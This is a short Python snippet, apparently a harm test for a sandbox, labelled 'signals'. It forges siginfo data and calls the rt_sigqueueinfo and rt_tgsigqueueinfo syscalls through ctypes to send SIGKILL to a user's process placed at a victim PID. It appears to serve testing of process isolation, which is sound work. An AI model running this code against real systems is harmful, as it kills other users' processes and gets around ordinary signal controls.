# harm: signals
import ctypes
import os
import struct

VICTIM = 0  # the net puts a process of the user here
RT_SIGQUEUEINFO, RT_TGSIGQUEUEINFO = 129, 297

libc = ctypes.CDLL(None)


def attack() -> int:
    about = struct.pack("iiiiii", 9, 0, -1, 0, os.getpid(), os.getuid()).ljust(128, b"\0")
    return libc.syscall(RT_SIGQUEUEINFO, VICTIM, 9, about) and libc.syscall(
        RT_TGSIGQUEUEINFO, VICTIM, VICTIM, 9, about
    )
